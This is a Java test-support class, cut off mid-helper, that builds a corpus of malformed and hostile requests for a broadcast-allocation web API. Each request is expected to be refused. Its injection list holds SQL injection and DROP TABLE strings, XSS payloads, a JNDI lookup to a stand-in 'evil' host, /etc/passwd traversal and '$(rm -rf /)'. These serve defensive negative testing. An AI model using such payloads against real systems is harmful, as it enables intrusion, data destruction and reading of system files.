package org.broadcastallocation.web;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import org.broadcastallocation.ApiClient;
import org.broadcastallocation.ApiClient.Body;

/**
 * Malformed and hostile inputs for every endpoint that takes input, generated from a few families: each case is a
 * call that must be refused with a 4xx problem detail and must change nothing. Each body case starts from a valid
 * body of its endpoint and breaks it in one place, so that the refusal is for that one thing.
 */
final class BadInputCorpus {

    static final String EVENT = "corpus";
    static final String OTHER_EVENT = "corpus-other";
    static final String OTHER_RESOURCE = "OTHER-RES";

    /** One call: who makes it, what it sends. */
    record Case(String family, String name, String caller, String method, String path, Body body,
            Map<String, String> headers) {
        @Override
        public String toString() {
            return family + " | " + method + " " + (path.length() > 80 ? path.substring(0, 80) + "..." : path)
                    + " | " + name;
        }
    }

    /** An endpoint that takes a JSON body: its valid body, and which fields are of which kind. */
    private record BodyEndpoint(String name, String caller, String method, String path, String validBody,
            Map<String, String> headers, List<String> required, List<String> integers, List<String> texts,
            List<String> enums, List<String> times, List<String> booleans, List<String> nameSets) {
    }

    private static final String WINDOW = """
            {"from": "2025-06-23T09:00:00+02:00", "to": "2025-06-26T02:00:00+02:00"}""";
    private static final String REQUEST = """
            {"id": "r-new", "type": "EDIT_BOOTH", "crewSize": 2, "window": %s,
             "requiredFeatures": ["FIBRE"], "preferredFeatures": ["QUIET"], "needsFibre": false, "priority": 2}"""
            .formatted(WINDOW);

    private final ObjectMapper json = new ObjectMapper();
    private final String ownKey;
    private final String otherEventKey;
    private final String importBody;
    private final List<Case> cases = new ArrayList<>();

    /**
     * @param ownKey        a key of organisation "nos" of {@link #EVENT}, which owns request r-1 (version 0)
     * @param otherEventKey a key of an organisation of {@link #OTHER_EVENT}
     * @param importBody    a valid problem document (its event id unused)
     */
    BadInputCorpus(String ownKey, String otherEventKey, String importBody) {
        this.ownKey = ownKey;
        this.otherEventKey = otherEventKey;
        this.importBody = importBody;
    }

    List<Case> cases() {
        cases.clear();
        for (var endpoint : bodyEndpoints()) {
            brokenJson(endpoint);
            wrongTypes(endpoint);
            missingFields(endpoint);
            unknownEnums(endpoint);
            timestamps(endpoint);
            numbers(endpoint);
            texts(endpoint);
            nesting(endpoint);
            oversize(endpoint);
            contentTypes(endpoint);
        }
        windows();
        documents();
        unaddressableIds();
        injection();
        pathsAndQueries();
        otherEvents();
        methods();
        return List.copyOf(cases);
    }

    private List<BodyEndpoint> bodyEndpoints() {
        String base = "/api/events/" + EVENT;
        var requestInts = List.of("crewSize", "priority", "durationMinutes", "vehicle.lengthMetres");
        var requestTimes = List.of("window.from", "window.to", "preferredStart");
        return List.of(
                new BodyEndpoint("submit", ownKey, "POST", base + "/requests", REQUEST, Map.of(),
                        List.of("type", "window", "window.from", "window.to"), requestInts, List.of("id"),
                        List.of("type", "vehicle.kind"), requestTimes, List.of("needsFibre"),
                        List.of("requiredFeatures", "preferredFeatures")),
                new BodyEndpoint("amend", ownKey, "PUT", base + "/requests/r-1", REQUEST.replace("r-new", "r-1"),
                        Map.of("If-Match", "\"0\""), List.of("type", "window", "window.from", "window.to"),
                        requestInts, List.of(), List.of("type", "vehicle.kind"), requestTimes,
                        List.of("needsFibre"), List.of("requiredFeatures", "preferredFeatures")),
                new BodyEndpoint("resource", ApiClient.PLANNER, "PUT", base + "/resources/EB-NEW", """
                        {"type": "EDIT_BOOTH", "zone": "EDIT", "x": 10, "y": 20, "capacity": 2,
                         "features": ["FIBRE"], "availability": [%s]}""".formatted(WINDOW), Map.of(),
                        List.of("type", "zone", "x", "y"), List.of("x", "y", "capacity"), List.of("zone"),
                        List.of("type"), List.of("availability[0].from", "availability[0].to"), List.of(),
                        List.of("features")),
                new BodyEndpoint("zone", ApiClient.PLANNER, "PUT", base + "/zones/Z-NEW", "{\"fibreLinks\": 3}",
                        Map.of(), List.of("fibreLinks"), List.of("fibreLinks"), List.of(), List.of(), List.of(),
                        List.of(), List.of()),
                new BodyEndpoint("organisation", ApiClient.PLANNER, "PUT", base + "/organisations/org-new",
                        "{\"name\": \"New Org\", \"kind\": \"BROADCASTER\", \"country\": \"NL\"}", Map.of(),
                        List.of("kind"), List.of(), List.of("name", "country"), List.of("kind"), List.of(), List.of(),
                        List.of()),
                new BodyEndpoint("late-intake", ApiClient.PLANNER, "PUT", base + "/late-intake", "{\"open\": true}",
                        Map.of(), List.of("open"), List.of(), List.of(), List.of(), List.of(), List.of("open"),
                        List.of()),
                new BodyEndpoint("round", ApiClient.PLANNER, "POST", base + "/rounds", """
                        {"weights": {"walkingPerMetre": 2, "priorityWeight": {"1": 1000}}, "quota": {"EDIT_BOOTH": 1},
                         "closedResources": ["EB-02"], "seconds": 5}""", Map.of(), List.of(),
                        List.of("seconds", "quota.EDIT_BOOTH", "weights.walkingPerMetre",
                                "weights.priorityWeight.1"), List.of(), List.of(), List.of(), List.of(),
                        List.of("closedResources")),
                new BodyEndpoint("reject", ApiClient.PLANNER, "POST", base + "/requests/seed/reject",
                        "{\"reason\": \"duplicate\"}", Map.of(), List.of(), List.of(), List.of("reason"), List.of(),
                        List.of(), List.of(), List.of()),
                new BodyEndpoint("import", ApiClient.PLANNER, "POST", "/api/events", importBody, Map.of(),
                        List.of("event", "event.id", "event.timeZone", "event.start", "event.end",
                                "requests[0].type", "requests[0].window", "resources[0].type",
                                "organisations[0].kind"),
                        List.of("zones[0].fibreLinks", "resources[0].capacity", "resources[0].x",
                                "requests[0].crewSize", "requests[0].priority", "event.quota.EDIT_BOOTH"),
                        List.of("event.id", "organisations[0].name", "requests[0].id"),
                        List.of("resources[0].type", "requests[0].type", "organisations[0].kind"),
                        List.of("event.start", "event.end", "requests[0].window.from", "event.requestDeadline"),
                        List.of("event.lateIntake"), List.of("resources[0].features")));
    }

    // ---- body families ----------------------------------------------------------------------------------------

    private void brokenJson(BodyEndpoint endpoint) {
        String valid = endpoint.validBody().strip();
        var broken = new LinkedHashMap<String, String>();
        broken.put("truncated", valid.substring(0, valid.length() / 2));
        broken.put("missing closing brace", valid.substring(0, valid.length() - 1));
        broken.put("only an opening brace", "{");
        broken.put("trailing comma", valid.substring(0, valid.length() - 1) + ",}");
        broken.put("single quotes", valid.replace('"', '\''));
        broken.put("unquoted names", valid.replaceAll("\"([a-zA-Z]+)\"\\s*:", "$1:"));
        broken.put("a bare word", "booth please");
        broken.put("an array", "[" + valid + "]");
        broken.put("a string", "\"" + valid.replace("\"", "\\\"") + "\"");
        broken.put("a number", "42");
        broken.put("raw control character in a name", valid.replaceFirst("\\{", "{\"x\u0001y\": 1, "));
        broken.put("invalid UTF-8", null);
        broken.put("comment", "/* hello */ " + valid);
        broken.put("NaN", valid.replaceFirst("\\{", "{\"x\": NaN,"));
        broken.put("a second object after the first", valid + valid);
        broken.put("an empty object after the body", valid + " {}");
        broken.put("a word after the body", valid + " x");
        for (var entry : broken.entrySet()) {
            byte[] bytes = entry.getValue() == null ? invalidUtf8(valid)
                    : entry.getValue().getBytes(StandardCharsets.UTF_8);
            add("broken JSON", endpoint, entry.getKey(), new Body(bytes, "application/json", false));
        }
    }

    private void wrongTypes(BodyEndpoint endpoint) {
        for (String field : endpoint.integers()) {
            put("wrong types", endpoint, field + " as a word", field, text("two"));
            put("wrong types", endpoint, field + " as an object", field, object());
        }
        for (String field : endpoint.texts()) {
            put("wrong types", endpoint, field + " as an object", field, object());
            put("wrong types", endpoint, field + " as a list", field, json("[\"a\"]"));
        }
        for (String field : endpoint.enums()) {
            put("wrong types", endpoint, field + " as an object", field, object());
        }
        for (String field : endpoint.times()) {
            put("wrong types", endpoint, field + " as an object", field, object());
            put("wrong types", endpoint, field + " as true", field, json("true"));
        }
        for (String field : endpoint.booleans()) {
            put("wrong types", endpoint, field + " as a word", field, text("maybe"));
            put("wrong types", endpoint, field + " as an object", field, object());
        }
        for (String field : endpoint.nameSets()) {
            put("wrong types", endpoint, field + " as a word", field, text("FIBRE"));
            put("wrong types", endpoint, field + " with an object", field, json("[{}]"));
        }
    }

    private void missingFields(BodyEndpoint endpoint) {
        for (String field : endpoint.required()) {
            edit("missing fields", endpoint, "without " + field, node -> remove(node, field));
            edit("missing fields", endpoint, field + " null", node -> set(node, field, json("null")));
        }
        if (!endpoint.required().isEmpty()) {
            add("missing fields", endpoint, "an empty object", Body.json("{}"));
        }
    }

    private void unknownEnums(BodyEndpoint endpoint) {
        for (String field : endpoint.enums()) {
            for (String value : List.of("SPACESHIP", "edit_booth", "", "EDIT BOOTH", "' OR '1'='1")) {
                put("unknown enum values", endpoint, field + " = '" + value + "'", field, text(value));
            }
        }
        if (endpoint.name().equals("round")) {
            put("unknown enum values", endpoint, "quota of an unknown type", "quota", json("{\"SPACESHIP\": 1}"));
        }
        if (endpoint.name().equals("import")) {
            put("unknown enum values", endpoint, "quota of an unknown type", "event.quota",
                    json("{\"SPACESHIP\": 1}"));
        }
    }

    private void timestamps(BodyEndpoint endpoint) {
        for (String field : endpoint.times()) {
            var bad = new LinkedHashMap<String, String>();
            bad.put("without offset", "2025-06-23T09:00:00");
            bad.put("a date only", "2025-06-23");
            bad.put("month 13", "2025-13-23T09:00:00+02:00");
            bad.put("offset +25:00", "2025-06-23T09:00:00+25:00");
            bad.put("script", "<script>alert(1)</script>");
            for (var entry : bad.entrySet()) {
                put("timestamps", endpoint, field + " " + entry.getKey(), field, text(entry.getValue()));
            }
        }
    }

    private void numbers(BodyEndpoint endpoint) {
        for (String field : endpoint.integers()) {
            for (String value : List.of("-1", "-1000001", "2147483648", "99999999999999999999", "1e400", "1.5",
                    "1000001")) {
                if (value.equals("-1") && (field.equals("x") || field.endsWith(".x") || field.equals("y"))) {
                    continue;
                }
                put("negative or huge numbers", endpoint, field + " = " + abbreviate(value), field, json(value));
            }
        }
    }

    private void texts(BodyEndpoint endpoint) {
        for (String field : endpoint.texts()) {
            var bad = new LinkedHashMap<String, String>();
            bad.put("NUL", "a\u0000b");
            bad.put("bell", "a\u0007b");
            bad.put("line break", field.equals("reason") ? "a\u001bb" : "a\nb");
            bad.put("unpaired surrogate", "a\ud800b");
            bad.put("3,000 characters", "x".repeat(3_000));
            bad.put("1,000 emoji", "\ud83d\udce1".repeat(1_000));
            bad.put("200,000 characters (over the parser's string limit)", "y".repeat(200_000));
            for (var entry : bad.entrySet()) {
                if (entry.getValue().length() > 60_000 && !endpoint.name().equals("import")) {
                    continue;
                }
                put("control characters and long unicode", endpoint, field + " with " + entry.getKey(), field,
                        text(entry.getValue()));
            }
        }
        for (String field : endpoint.nameSets()) {
            put("control characters and long unicode", endpoint, field + " with a control character", field,
                    json("[\"FIB\\u0000RE\"]"));
            put("control characters and long unicode", endpoint, field + " with an empty name", field,
                    json("[\"\"]"));
            put("control characters and long unicode", endpoint, field + " with a long name", field,
                    json("[\"" + "\u00e9".repeat(500) + "\"]"));
        }
    }

    private void nesting(BodyEndpoint endpoint) {
        for (int depth : List.of(65, 200, 5_000, 30_000)) {
            add("deep nesting", endpoint, "arrays " + depth + " deep",
                    Body.json("{\"x\": " + "[".repeat(depth) + "]".repeat(depth) + "}"));
        }
        add("deep nesting", endpoint, "objects 100 deep",
                Body.json("{\"a\":".repeat(100) + "1" + "}".repeat(100)));
    }

    private void oversize(BodyEndpoint endpoint) {
        int megabytes = endpoint.name().equals("import") ? 25 : 10;
        String valid = endpoint.validBody().strip();
        String padded = "{\"padding\": \"" + "p".repeat(megabytes * 1024 * 1024) + "\", " + valid.substring(1);
        byte[] bytes = padded.getBytes(StandardCharsets.UTF_8);
        add("10 MB bodies", endpoint, megabytes + " MB with Content-Length",
                new Body(bytes, "application/json", false));
        add("10 MB bodies", endpoint, megabytes + " MB chunked", new Body(bytes, "application/json", true));
        if (!endpoint.name().equals("import")) {
            byte[] small = ("{\"padding\": \"" + "p".repeat(100 * 1024) + "\", " + valid.substring(1))
                    .getBytes(StandardCharsets.UTF_8);
            add("10 MB bodies", endpoint, "100 KB chunked", new Body(small, "application/json", true));
        }
    }

    private void contentTypes(BodyEndpoint endpoint) {
        byte[] valid = endpoint.validBody().getBytes(StandardCharsets.UTF_8);
        add("wrong types", endpoint, "as text/plain", new Body(valid, "text/plain", false));
        add("wrong types", endpoint, "as XML", new Body("<request/>".getBytes(StandardCharsets.UTF_8),
                "application/xml", false));
        add("wrong types", endpoint, "as a form", new Body("type=EDIT_BOOTH".getBytes(StandardCharsets.UTF_8),
                "application/x-www-form-urlencoded", false));
        add("wrong types", endpoint, "without Content-Type", new Body(valid, null, false));
    }

    // ---- families with cases written per endpoint -------------------------------------------------------------

    private void windows() {
        var submit = bodyEndpoints().get(0);
        var resource = bodyEndpoints().get(2);
        var bad = new LinkedHashMap<String, String[]>();
        bad.put("before the event", new String[] {"2025-06-20T09:00:00+02:00", "2025-06-24T09:00:00+02:00"});
        bad.put("after the event", new String[] {"2025-06-26T09:00:00+02:00", "2025-06-27T09:00:00+02:00"});
        bad.put("a year later", new String[] {"2026-06-23T09:00:00+02:00", "2026-06-24T09:00:00+02:00"});
        bad.put("ending before it starts", new String[] {"2025-06-24T09:00:00+02:00", "2025-06-23T09:00:00+02:00"});
        bad.put("empty", new String[] {"2025-06-24T09:00:00+02:00", "2025-06-24T09:00:00+02:00"});
        bad.put("off the grain (09:07)", new String[] {"2025-06-24T09:07:00+02:00", "2025-06-24T12:00:00+02:00"});
        bad.put("off the grain (seconds)", new String[] {"2025-06-24T09:00:30+02:00", "2025-06-24T12:00:00+02:00"});
        bad.put("off the grain (nanos)", new String[] {"2025-06-24T09:00:00.5+02:00", "2025-06-24T12:00:00+02:00"});
        bad.put("at the end of time", new String[] {"+999999999-12-31T23:45:00+18:00",
            "+999999999-12-31T23:59:59+18:00"});
        bad.put("year 0", new String[] {"0000-01-01T00:00:00Z", "0000-01-02T00:00:00Z"});
        for (var entry : bad.entrySet()) {
            var window = json("{\"from\": \"" + entry.getValue()[0] + "\", \"to\": \"" + entry.getValue()[1] + "\"}");
            put("windows outside the event or off the grain", submit, "request window " + entry.getKey(), "window",
                    window);
            put("windows outside the event or off the grain", resource, "availability " + entry.getKey(),
                    "availability", json("[" + window + "]"));
        }
        var slot = "window.from";
        for (String duration : List.of("7", "0", "-15", "10000", "20")) {
            edit("windows outside the event or off the grain", submit, "durationMinutes " + duration, node -> {
                set(node, "durationMinutes", json(duration));
                set(node, slot, text("2025-06-24T09:00:00+02:00"));
                set(node, "window.to", text("2025-06-24T11:00:00+02:00"));
            });
        }
        put("windows outside the event or off the grain", submit, "preferredStart off the grain", "preferredStart",
                text("2025-06-24T09:10:00+02:00"));
        edit("windows outside the event or off the grain", submit, "parking not to the end of the event", node -> {
            set(node, "type", text("PARKING_SNG"));
            set(node, "vehicle", json("{\"kind\": \"SNG\", \"lengthMetres\": 8}"));
            set(node, "window.from", text("2025-06-23T09:00:00+02:00"));
            set(node, "window.to", text("2025-06-24T09:00:00+02:00"));
        });
        edit("windows outside the event or off the grain", submit, "parking arriving outside the access days",
                node -> {
                    set(node, "type", text("PARKING_SNG"));
                    set(node, "window.from", text("2025-06-24T09:00:00+02:00"));
                });
        edit("windows outside the event or off the grain", submit, "OB van in SNG parking", node -> {
            set(node, "type", text("PARKING_SNG"));
            set(node, "vehicle", json("{\"kind\": \"OB\", \"lengthMetres\": 8}"));
        });
        put("windows outside the event or off the grain", submit, "TV studio for a broadcaster", "type",
                text("TV_STUDIO"));
    }

    private void documents() {
        var endpoint = bodyEndpoints().get(bodyEndpoints().size() - 1);
        String family = "problem documents";
        put(family, endpoint, "an existing event's id", "event.id", text(EVENT));
        put(family, endpoint, "an unknown time zone", "event.timeZone", text("Mars/Olympus_Mons"));
        put(family, endpoint, "time zone injection", "event.timeZone", text("Europe/Amsterdam'; DROP TABLE event;--"));
        put(family, endpoint, "an event of 100 days", "event.end", text("2025-09-30T02:00:00+02:00"));
        put(family, endpoint, "an end before the start", "event.end", text("2025-06-01T02:00:00+02:00"));
        put(family, endpoint, "opening hours off the grain", "event.openingHours",
                json("[{\"from\": \"2025-06-23T09:05:00+02:00\", \"to\": \"2025-06-23T20:00:00+02:00\"}]"));
        put(family, endpoint, "a request of an unknown organisation", "requests[0].organisation",
                text("' OR '1'='1"));
        put(family, endpoint, "a pin of an unknown request", "pinned",
                json("[{\"request\": \"nope\", \"resource\": \"EB-01\", \"start\": \"2025-06-23T09:00:00+02:00\"}]"));
        put(family, endpoint, "a pin on an unknown resource", "pinned",
                json("[{\"request\": \"seed\", \"resource\": \"<b>x</b>\","
                        + " \"start\": \"2025-06-23T09:00:00+02:00\"}]"));
        put(family, endpoint, "priority weight of priority 9", "event.weights",
                json("{\"priorityWeight\": {\"9\": 10}}"));
        put(family, endpoint, "a negative walking weight", "event.weights", json("{\"walkingPerMetre\": -5}"));
        put(family, endpoint, "a null request", "requests", json("[null]"));
        put(family, endpoint, "a null resource", "resources", json("[null]"));
        edit(family, endpoint, "two resources with one id", node -> ((com.fasterxml.jackson.databind.node.ArrayNode)
                node.get("resources")).add(node.get("resources").get(0).deepCopy()));
        edit(family, endpoint, "200,000 requests with nothing in them", node -> {
            var requests = ((ObjectNode) node).putArray("requests");
            for (int i = 0; i < 200_000; i++) {
                requests.addObject().put("id", "q" + i);
            }
        });
    }

    /** Ids become parts of addresses: one that an address cannot carry as it is would be stored and lost. */
    private void unaddressableIds() {
        String family = "ids no address can carry";
        var submit = bodyEndpoints().get(0);
        var document = bodyEndpoints().get(bodyEndpoints().size() - 1);
        for (String id : List.of("a b", "x/y", "a;b", "100%", "back\\slash", ".hidden", "caf\u00e9")) {
            put(family, submit, "request id '" + id + "'", "id", text(id));
        }
        for (String field : List.of("event.id", "requests[0].id", "resources[0].id", "zones[0].id")) {
            put(family, document, field + " 'a b'", field, text("a b"));
        }
        String own = "/api/events/" + EVENT;
        cases.add(new Case(family, "zone 'a b'", ApiClient.PLANNER, "PUT", own + "/zones/a%20b",
                Body.json("{\"fibreLinks\": 3}"), Map.of()));
        cases.add(new Case(family, "organisation 'a+b'", ApiClient.PLANNER, "PUT", own + "/organisations/a+b",
                Body.json("{\"name\": \"New Org\", \"kind\": \"BROADCASTER\"}"), Map.of()));
        cases.add(new Case(family, "resource 'EB!'", ApiClient.PLANNER, "PUT", own + "/resources/EB!",
                Body.json("{\"type\": \"EDIT_BOOTH\", \"zone\": \"EDIT\", \"x\": 1, \"y\": 2}"), Map.of()));
    }

    private void injection() {
        var hostile = List.of("' OR '1'='1", "'; DROP TABLE request; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)",
                "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil/a}", "#{7*7}",
                "../../../../etc/passwd", "%00", "\u0000", "{{7*7}}", "$(rm -rf /)", "admin'--");
        for (String value : hostile) {
            String id = encode(value);
            String label = "'" + value.replace("\u0000", "\\0") + "'";
            injectionCase(ApiClient.PLANNER, "GET", "/api/events/" + id, "event id " + label);
            injectionCase(ApiClient.PLANNER, "GET", "/api/events/" + EVENT + "/requests/" + id,
                    "request id " + label);
            injectionCase(ownKey, "DELETE", "/api/events/" + EVENT + "/requests/" + id, "cancel " + label);
            injectionCase(ApiClient.PLANNER, "GET", "/api/events/" + EVENT + "/resources/" + id,
                    "resource id " + label);
            injectionCase(ApiClient.PLANNER, "DELETE", "/api/events/" + EVENT + "/zones/" + id, "zone " + label);
            injectionCase(ApiClient.PLANNER, "GET", "/api/events/" + EVENT + "/rounds/" + id, "round " + label);
            injectionCase(ApiClient.PLANNER, "GET", "/api/events/" + EVENT + "/audit?after=" + id,
                    "audit after " + label);
            injectionCase(ApiClient.PLANNER, "POST", "/api/events/" + EVENT + "/rounds/1/solve?seconds=" + id,
                    "solve seconds " + label);
            injectionCase(ApiClient.PLANNER, "POST", "/api/events/" + EVENT + "/organisations/" + id + "/keys",
                    "mint key for " + label);
            injectionCase(ApiClient.OPERATOR, "GET", "/api/events/" + EVENT + "/rounds/1/timeline?type=" + id,
                    "timeline type " + label);
            injectionCase(ApiClient.OPERATOR, "GET", "/api/events/" + EVENT + "/organisations/" + id
                    + "/allocations.ics", "calendar of " + label);
        }
    }

    private void injectionCase(String caller, String method, String path, String name) {
        cases.add(new Case("SQL and script injection", name, caller, method, path, null, Map.of()));
    }

    private void pathsAndQueries() {
        String family = "path ids and query parameters";
        String rounds = "/api/events/" + EVENT + "/rounds/";
        for (String round : List.of("abc", "99999999999", "-1", "1.5", "0x10", "1e3", "%20")) {
            query(family, ApiClient.OPERATOR, "GET", rounds + round, "round " + round);
            query(family, ApiClient.OPERATOR, "GET", rounds + "1/diff/" + round, "diff against " + round);
        }
        for (String seconds : List.of("0", "-5", "3601", "abc", "99999999999", "1.5", "1e3")) {
            query(family, ApiClient.PLANNER, "POST", rounds + "1/solve?seconds=" + seconds, "seconds=" + seconds);
        }
        query(family, ApiClient.PLANNER, "POST", rounds + "999/solve", "solve a round that does not exist");
        query(family, ApiClient.PLANNER, "POST", rounds + "1/publish", "publish an unsolved round");
        query(family, ApiClient.PLANNER, "DELETE", rounds + "1/solve", "stop a round that is not solving");
        query(family, ApiClient.OPERATOR, "GET", rounds + "1/report", "the report of an unsolved round");
        for (String type : List.of("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")) {
            cases.add(new Case(family, "the report of an unsolved round as " + type, ApiClient.OPERATOR, "GET",
                    rounds + "1/report", null, Map.of("Accept", type)));
        }
        for (String type : List.of("SPACESHIP", "edit_booth")) {
            query(family, ApiClient.OPERATOR, "GET", rounds + "1/timeline?type=" + type, "timeline type " + type);
        }
        for (String param : List.of("after=abc", "limit=abc", "after=99999999999999999999", "limit=1e9",
                "limit=2147483648")) {
            query(family, ApiClient.OPERATOR, "GET", "/api/events/" + EVENT + "/audit?" + param, param);
        }
        for (String closed : List.of("maybe", "2", "yes%00")) {
            cases.add(new Case(family, "closed=" + closed, ApiClient.PLANNER, "PUT",
                    "/api/events/" + EVENT + "/resources/EB-NEW?closed=" + closed,
                    Body.json(bodyEndpoints().get(2).validBody()), Map.of()));
        }
        String longId = "x".repeat(101);
        for (String id : List.of(longId, "a%07b", "a%0Ab", "%F0%9F%93%A1".repeat(60), "%C3%28")) {
            cases.add(new Case(family, "resource id " + abbreviate(id), ApiClient.PLANNER, "PUT",
                    "/api/events/" + EVENT + "/resources/" + id, Body.json(bodyEndpoints().get(2).validBody()),
                    Map.of()));
            cases.add(new Case(family, "zone id " + abbreviate(id), ApiClient.PLANNER, "PUT",
                    "/api/events/" + EVENT + "/zones/" + id, Body.json("{\"fibreLinks\": 1}"), Map.of()));
            cases.add(new Case(family, "organisation id " + abbreviate(id), ApiClient.PLANNER, "PUT",
                    "/api/events/" + EVENT + "/organisations/" + id,
                    Body.json("{\"name\": \"x\", \"kind\": \"RADIO\"}"), Map.of()));
        }
        for (String path : List.of("/api/events/" + EVENT + "/requests/a%2Fb", "/api/events/" + EVENT + "/../x",
                "/api/events/" + EVENT + "/requests/%2e%2e", "/api/events/" + EVENT + "//requests",
                "/api/events/" + EVENT + "/requests/a;jsessionid=1", "/api/events/" + EVENT + "/requests/a%5Cb")) {
            query(family, ApiClient.PLANNER, "GET", path, "suspicious path " + path);
        }
        query(family, ApiClient.OPERATOR, "GET", "/api/events/" + "e".repeat(10_000), "a path of 10,000 characters");
        query(family, ApiClient.OPERATOR, "GET", "/api/events/" + EVENT + "/audit?after=" + "9".repeat(5_000),
                "a query of 5,000 digits");
        var submit = bodyEndpoints().get(0);
        add("path ids and query parameters", submit, "Idempotency-Key of 101 characters",
                Body.json(submit.validBody()), Map.of("Idempotency-Key", "k".repeat(101)));
        var amend = bodyEndpoints().get(1);
        for (String ifMatch : List.of("\"7\"", "abc", "\"99999999999\"", "W/\"-1\"")) {
            cases.add(new Case(family, "If-Match " + ifMatch, ownKey, "PUT", amend.path(),
                    Body.json(amend.validBody()), Map.of("If-Match", ifMatch)));
        }
        cases.add(new Case(family, "amend without a version", ownKey, "PUT", amend.path(),
                Body.json(amend.validBody()), Map.of()));
        cases.add(new Case(family, "amend a request that does not exist", ownKey, "PUT",
                "/api/events/" + EVENT + "/requests/nope", Body.json(amend.validBody()), Map.of("If-Match", "\"0\"")));
        cases.add(new Case(family, "submit a request id that exists", ownKey, "POST",
                "/api/events/" + EVENT + "/requests", Body.json(REQUEST.replace("r-new", "r-1")), Map.of()));
        cases.add(new Case(family, "charset that does not exist", ownKey, "POST",
                "/api/events/" + EVENT + "/requests", new Body(REQUEST.getBytes(StandardCharsets.UTF_8),
                        "application/json; charset=klingon", false), Map.of()));
    }

    private void query(String family, String caller, String method, String path, String name) {
        cases.add(new Case(family, name, caller, method, path, null, Map.of()));
    }

    private void otherEvents() {
        String family = "ids of other events";
        String other = "/api/events/" + OTHER_EVENT;
        String own = "/api/events/" + EVENT;
        cases.add(new Case(family, "list another event's requests", ownKey, "GET", other + "/requests", null,
                Map.of()));
        cases.add(new Case(family, "submit to another event", ownKey, "POST", other + "/requests",
                Body.json(REQUEST), Map.of()));
        cases.add(new Case(family, "amend in another event", ownKey, "PUT", other + "/requests/r-1",
                Body.json(REQUEST), Map.of("If-Match", "\"0\"")));
        cases.add(new Case(family, "cancel in another event", ownKey, "DELETE", other + "/requests/r-1", null,
                Map.of()));
        cases.add(new Case(family, "another event's confirmed allocations", ownKey, "GET", other + "/allocations",
                null, Map.of()));
        cases.add(new Case(family, "another event's calendar", ownKey, "GET", other + "/allocations.ics", null,
                Map.of()));
        cases.add(new Case(family, "a key of another event reads r-1", otherEventKey, "GET", own + "/requests/r-1",
                null, Map.of()));
        cases.add(new Case(family, "a key of another event cancels r-1", otherEventKey, "DELETE",
                own + "/requests/r-1", null, Map.of()));
        cases.add(new Case(family, "a key of another event amends r-1", otherEventKey, "PUT", own + "/requests/r-1",
                Body.json(REQUEST), Map.of("If-Match", "\"0\"")));
        cases.add(new Case(family, "a key of another event submits here", otherEventKey, "POST", own + "/requests",
                Body.json(REQUEST), Map.of()));
        cases.add(new Case(family, "reject r-1 under another event", ApiClient.PLANNER, "POST",
                other + "/requests/r-1/reject", Body.json("{\"reason\": \"x\"}"), Map.of()));
        cases.add(new Case(family, "read r-1 under another event", ApiClient.OPERATOR, "GET",
                other + "/requests/r-1", null, Map.of()));
        cases.add(new Case(family, "close another event's resource", ApiClient.PLANNER, "POST", own + "/rounds",
                Body.json("{\"closedResources\": [\"" + OTHER_RESOURCE + "\"]}"), Map.of()));
        cases.add(new Case(family, "delete another event's resource", ApiClient.PLANNER, "DELETE",
                own + "/resources/" + OTHER_RESOURCE, null, Map.of()));
        cases.add(new Case(family, "read another event's resource", ApiClient.PLANNER, "GET",
                own + "/resources/" + OTHER_RESOURCE, null, Map.of()));
        cases.add(new Case(family, "delete another event's organisation", ApiClient.PLANNER, "DELETE",
                own + "/organisations/zdf", null, Map.of()));
        cases.add(new Case(family, "another event's organisation's calendar", ApiClient.OPERATOR, "GET",
                own + "/organisations/zdf/allocations.ics", null, Map.of()));
        cases.add(new Case(family, "mint a key for another event's organisation", ApiClient.PLANNER, "POST",
                own + "/organisations/zdf/keys", null, Map.of()));
        cases.add(new Case(family, "revoke keys of another event's organisation", ApiClient.PLANNER, "DELETE",
                own + "/organisations/zdf/keys", null, Map.of()));
        cases.add(new Case(family, "another event's round", ApiClient.OPERATOR, "GET", other + "/rounds/1", null,
                Map.of()));
        cases.add(new Case(family, "diff against another event's round", ApiClient.OPERATOR, "GET",
                own + "/rounds/1/diff/2", null, Map.of()));
        cases.add(new Case(family, "an event that does not exist", ApiClient.OPERATOR, "GET",
                "/api/events/no-such-event/audit", null, Map.of()));
    }

    private void methods() {
        String family = "wrong methods";
        String own = "/api/events/" + EVENT;
        for (String path : List.of(own, own + "/rounds/1/report", own + "/audit", own + "/zones")) {
            for (String method : List.of("POST", "PATCH")) {
                cases.add(new Case(family, method + " on a read-only path", ApiClient.PLANNER, method, path,
                        Body.json("{}"), Map.of()));
            }
        }
        cases.add(new Case(family, "PUT on the event list", ApiClient.PLANNER, "PUT", "/api/events", Body.json("{}"),
                Map.of()));
        cases.add(new Case(family, "DELETE an event", ApiClient.PLANNER, "DELETE", own, null, Map.of()));
        cases.add(new Case(family, "a path that does not exist", ApiClient.PLANNER, "GET", own + "/nothing-here",
                null, Map.of()));
    }

    // ---- helpers ----------------------------------------------------------------------------------------------

    private void add(String family, BodyEndpoint endpoint, String name, Body body) {
        add(family, endpoint, name, body, Map.of());
    }

    private void add(String family, BodyEndpoint endpoint, String name, Body body, Map<String, String> headers) {
        var all = new LinkedHashMap<>(endpoint.headers());
        all.putAll(headers);
        cases.add(new Case(family, endpoint.name() + ": " + name, endpoint.caller(), endpoint.method(),
                endpoint.path(), body, all));
    }

    private void put(String family, BodyEndpoint endpoint, String name, String field, JsonNode value) {
        edit(family, endpoint, name, node -> set(node, field, value));
    }

    private void edit(String family, BodyEndpoint endpoint, String name, Consumer<ObjectNode> change) {
        try {
            var node = (ObjectNode) json.readTree(endpoint.validBody());
            change.accept(node);
            // Non-ASCII escaped: an unpaired surrogate must travel as the six characters \ud800, as a client would
            // send it, not be replaced by '?' on the way out.
            add(family, endpoint, name, Body.json(json.writer().with(JsonWriteFeature.ESCAPE_NON_ASCII)
                    .writeValueAsString(node)));
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(endpoint.name() + ": " + e.getMessage(), e);
        }
    }

    /** Sets a dotted path ({@code window.from}, {@code requests[0].type}), creating objects on the way. */
    private static void set(ObjectNode root, String path, JsonNode value) {
